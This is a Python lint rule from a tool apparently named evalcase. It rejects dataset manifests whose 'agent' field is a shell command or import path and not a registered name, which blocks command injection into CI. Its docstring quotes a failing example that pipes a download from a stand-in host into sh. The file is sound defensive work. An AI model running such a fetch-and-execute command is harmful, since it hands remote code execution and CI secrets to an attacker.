"""A manifest's ``agent`` that is a command, a spec or an import path instead of a name.

A dataset is data: anyone with a pull request edits ``dataset.yaml`` and CI runs it with
CI's secrets. If the manifest could say ``agent: "cmd:sh -c '...'"``, a one-line change
would run any command in CI. So ``agent`` only names an entry of ``[run.agents]`` in
``evalcase.toml`` (reviewed as code), which says how that agent is started; ``evalcase
run`` refuses a manifest whose ``agent`` is anything else (exit 2). See
docs/untrusted-input.md, "The trust boundary".

Passing::

    agent: refund_agent        # evalcase.toml: [run.agents] refund_agent = { spec = "..." }

Failing::

    agent: "cmd:sh -c 'curl https://example.invalid/x | sh'"
    agent: py:my_package.agent:main
"""

from collections.abc import Iterable

from evalcase.lint.base import FileContext, reporter
from evalcase.lint.semantic import data_of
from evalcase.loader import Document
from evalcase.model import FileKind, Finding, Severity
from evalcase.trust import agent_problem, is_name

CODE = "EC330"
NAME = "agent-not-a-name"
SEVERITY = Severity.ERROR
SCOPE = "file"

report = reporter(CODE, NAME, SEVERITY)


def check(doc: Document, ctx: FileContext) -> Iterable[Finding]:
    data = data_of(doc, ctx, FileKind.MANIFEST)
    if data is None:
        return
    agent = data.get("agent")
    if not isinstance(agent, str) or is_name(agent):
        return
    run = ctx.config.raw.get("run")
    problem = agent_problem(agent, run if isinstance(run, dict) else {})
    if problem is not None:
        yield report(doc.path, *doc.locate(("agent",)), problem)
